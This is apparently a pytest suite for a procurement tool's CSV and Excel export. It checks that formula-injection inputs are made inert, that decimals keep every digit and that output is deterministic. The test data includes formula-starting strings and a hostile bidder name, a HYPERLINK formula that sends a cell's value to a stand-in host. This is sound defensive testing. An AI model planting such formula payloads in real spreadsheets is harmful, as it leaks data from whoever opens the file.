"""Tables for spreadsheets: no cell runs, no digit is lost, and a reader that is not ours sees the same."""

from __future__ import annotations

import copy
import csv
import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from procurement_plugin.adapters.workbook import workbook
from procurement_plugin.application.evaluation_tables import TRIAL, csv_of, tables_of
from procurement_plugin.application.spreadsheet_table import FORMULA, Table, as_csv, inert, runs

MADE_AT = datetime.fromisoformat("2027-01-15T11:00:00+01:00")
DANGEROUS = (
    "=1+1",
    "+32 9 000 00 00",
    "-5",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    " =1+1",
    "a;=1+1",
    "a, =1+1",
    "x\n=1",
)
HARMLESS = ("fine", "B-1", "a=b", "3 + 4", "mail@example.org", "", "’t Hof; -")


@pytest.fixture
def document(requests_by_name: dict[str, Any], score: Any) -> dict[str, Any]:
    found: dict[str, Any] = score(copy.deepcopy(requests_by_name["01_first_evaluation/request.json"]))
    return found


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_begin_a_formula_is_made_inert_and_stays_readable(text: str) -> None:
    made = inert(text)
    assert runs(text)
    assert made.replace("'", "") == text
    for cut in re.split(r"[;,\t\r\n]", made):
        assert not cut.strip() or cut.strip()[0] not in "=+-@＝＋－＠"


@pytest.mark.parametrize("text", HARMLESS[:-1])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert inert(text) == text
    assert not runs(text)


@given(st.text(alphabet=st.sampled_from("=+-@＝;, \t\r\na1'\""), max_size=12))
def test_no_cell_begins_with_a_sign_of_a_formula_however_the_line_is_cut(text: str) -> None:
    """Read with commas, and with semicolons as spreadsheets in Dutch, French and German do."""
    line = as_csv(("name",), ((text,),)).split("\r\n", 1)[1]
    cells = [cell for row in csv.reader(io.StringIO(line, newline="")) for cell in row]
    pieces = [piece for cell in cells for piece in re.split(r"[;,\t\r\n]", cell)]
    assert not [piece for piece in pieces if re.match(rf"\s*[{FORMULA}]", piece)]


def test_csv_keeps_decimals_digit_for_digit_and_negative_figures_are_no_formulas() -> None:
    rows = ((Decimal("-0.50"), Decimal("1E+3"), 3, None, "-x"),)
    assert as_csv(("a", "b", "c", "d", "e"), rows) == "a,b,c,d,e\r\n-0.50,1000,3,,'-x\r\n"


def test_the_csv_of_an_evaluation_holds_its_points(document: dict[str, Any]) -> None:
    rows = list(csv.DictReader(io.StringIO(csv_of(document), newline="")))
    told = [(bid["id"], score["points"]) for bid in document["bids"] for score in bid["criteria"]]
    assert [(row["bid"], row["points"]) for row in rows] == told


def test_another_reader_finds_weights_ranking_scores_and_steps_in_the_workbook(document: dict[str, Any]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(tables_of(document), MADE_AT)))
    assert book.sheetnames == ["Evaluation", "Weights", "Ranking", "Scores", "Steps"]
    about = {row[0]: row[1] for row in book["Evaluation"].iter_rows(values_only=True)}
    assert (about["note"], about["id"], about["inputHash"]) == (TRIAL, document["id"], document["inputHash"])
    weights = list(book["Weights"].iter_rows(min_row=2, values_only=True))
    assert [row[2] for row in weights] == [5, 15, 10, 50, 20]
    assert [row[7:11] for row in weights[:2]] == [(7, 1, 45, 0), (10, 1, 300, 0)]
    assert [row[0] for row in weights] == [row[4] for row in book["Scores"].iter_rows(2, 6, values_only=True)]
    ranking = [row[:4] for row in book["Ranking"].iter_rows(min_row=2, values_only=True)]
    assert ranking == [(r["rank"], r["bidId"], r["bidder"], float(r["total"])) for r in document["ranking"]]
    scores = list(book["Scores"].iter_rows(min_row=2, values_only=True))
    told = [(bid["id"], float(row["points"])) for bid in document["bids"] for row in bid["criteria"]]
    assert [(row[0], row[9]) for row in scores] == told
    assert sum(len(row.get("steps", ())) for bid in document["bids"] for row in bid["criteria"]) == (
        book["Steps"].max_row - 1
    )


def test_figures_stand_in_the_workbook_as_the_text_of_the_decimal() -> None:
    """No figure goes through a float; one that a spreadsheet could not hold stays text."""
    figures = ("0.1", "57.0431", "43.0000", "123456789012.345", "0.000001", "-7.25", "0", "1234567890123456.7")
    table = Table("Figures", ("figure",), tuple((Decimal(text),) for text in figures))
    made = workbook((table,), MADE_AT)
    xml = zipfile.ZipFile(io.BytesIO(made)).read("xl/worksheets/sheet1.xml").decode()
    numbers = re.findall(r'<c r="A\d+"(?: s="\d+")?><v>([^<]*)</v>', xml)
    assert [Decimal(text) for text in numbers] == [Decimal(text) for text in figures[:-1]]
    assert numbers[:4] == list(figures[:4])
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(made))["Figures"].iter_rows(min_row=2)]
    assert cells[2].number_format == "0.0000"
    assert cells[-1].value == figures[-1]


def test_no_text_of_the_workbook_is_a_formula_and_each_reads_as_it_was() -> None:
    """Where somebody could turn it into one by editing, the cell keeps the mark of quoted text."""
    table = Table("Words", ("word",), tuple((text,) for text in (*DANGEROUS, *HARMLESS, "{=1}", "http://example.org")))
    made = workbook((table,), MADE_AT)
    sheet = openpyxl.load_workbook(io.BytesIO(made))["Words"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_row=1 + len(table.rows))]
    # A carriage return is written escaped, as the format asks; this reader does not unescape it.
    read = [(cell.value or "").replace("_x000D_", "\r") for cell in cells]
    assert read == [row[0] for row in table.rows]
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert all(cell.quotePrefix for cell in cells[: len(DANGEROUS)])
    assert "<f>" not in zipfile.ZipFile(io.BytesIO(made)).read("xl/worksheets/sheet1.xml").decode()


def test_the_same_evaluation_gives_the_same_bytes(document: dict[str, Any]) -> None:
    assert workbook(tables_of(document), MADE_AT) == workbook(tables_of(document), MADE_AT)


def test_a_hostile_name_of_a_bidder_is_inert_in_both_forms(document: dict[str, Any]) -> None:
    hostile = '=HYPERLINK("http://example.org?"&A1;"open")'
    document["bids"][0]["bidder"]["name"] = hostile
    assert f"'{hostile[:11]}" in csv_of(document)
    book = openpyxl.load_workbook(io.BytesIO(workbook(tables_of(document), MADE_AT)))
    cell = book["Scores"]["B2"]
    assert (cell.value, cell.data_type) == (hostile, "s")
